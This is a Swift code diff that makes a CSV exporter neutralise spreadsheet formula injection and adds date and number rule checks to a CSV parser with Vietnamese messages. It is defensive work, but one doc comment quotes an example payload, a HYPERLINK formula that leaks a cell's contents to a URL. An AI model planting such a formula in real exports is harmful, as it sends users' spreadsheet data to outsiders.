@@ -200,14 +200,32 @@ public enum CSVParser {
 public enum CSVWriter {
     public static let bom = "\u{FEFF}"
 
-    /// The cell, quoted when it contains a comma, a quote, a line break, or spaces at either end (which a
-    /// spreadsheet or a trimming reader would otherwise lose).
-    public static func field(_ s: String) -> String {
+    /// The cell, made inert and quoted when it contains a comma, a quote, a line break, or spaces at either end
+    /// (which a spreadsheet or a trimming reader would otherwise lose).
+    public static func field(_ text: String) -> String {
+        let s = inert(text)
         let needsQuotes = s.utf8.contains { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"")
             || $0 == UInt8(ascii: "\n") || $0 == UInt8(ascii: "\r") }
             || s.first?.isWhitespace == true || s.last?.isWhitespace == true
         guard needsQuotes else { return s }
         return "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+    }
+
+    /// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and Excel also after a leading
+    /// tab or carriage return): a task named `=HYPERLINK("http://…?leak="&A1,"x")` would send the sheet's data away
+    /// when the export is opened. Such a cell gets a leading apostrophe, which spreadsheets show as text (OWASP's
+    /// advice). A plain number such as `-12` or `-3,5` is no formula and stays as it is.
+    public static func inert(_ s: String) -> String {
+        guard let first = s.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return s }
+        if first == "-", isPlainNumber(s.dropFirst()) { return s }
+        return "'" + s
+    }
+
+    /// Digits with `.` or `,` between them (Vietnamese thousands and decimals), starting and ending with a digit.
+    private static func isPlainNumber(_ s: Substring) -> Bool {
+        func isDigit(_ c: UInt8) -> Bool { c >= UInt8(ascii: "0") && c <= UInt8(ascii: "9") }
+        guard let first = s.utf8.first, let last = s.utf8.last, isDigit(first), isDigit(last) else { return false }
+        return s.utf8.allSatisfy { isDigit($0) || $0 == UInt8(ascii: ".") || $0 == UInt8(ascii: ",") }
     }
 
     /// One record, ending with CRLF as RFC 4180 says.
@@ -308,6 +326,7 @@ public struct CSVFields: Sendable {
     public func date(_ name: String) throws -> CivilDate? {
         guard let value = optional(name) else { return nil }
         guard let date = CivilDate.parse(value) else { throw fail("\(name) “\(value)” không phải ngày (dd/mm/yyyy hoặc yyyy-mm-dd)") }
+        if let problem = DateRules.check(date) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
         return date
     }
 
@@ -315,6 +334,7 @@ public struct CSVFields: Sendable {
     public func month(_ name: String) throws -> CivilMonth? {
         guard let value = optional(name) else { return nil }
         guard let month = CivilMonth.parse(value) else { throw fail("\(name) “\(value)” không phải tháng (yyyy-mm)") }
+        if let problem = DateRules.check(month) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
         return month
     }
 
@@ -324,6 +344,7 @@ public struct CSVFields: Sendable {
         guard let number = VNFormat.parseDecimal(value) else {
             throw fail("\(name) “\(value)” không phải là số (ví dụ 5.300, 1.234,5 hoặc 1234.5)")
         }
+        if let problem = NumberRule.check(number) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
         return number
     }
 }
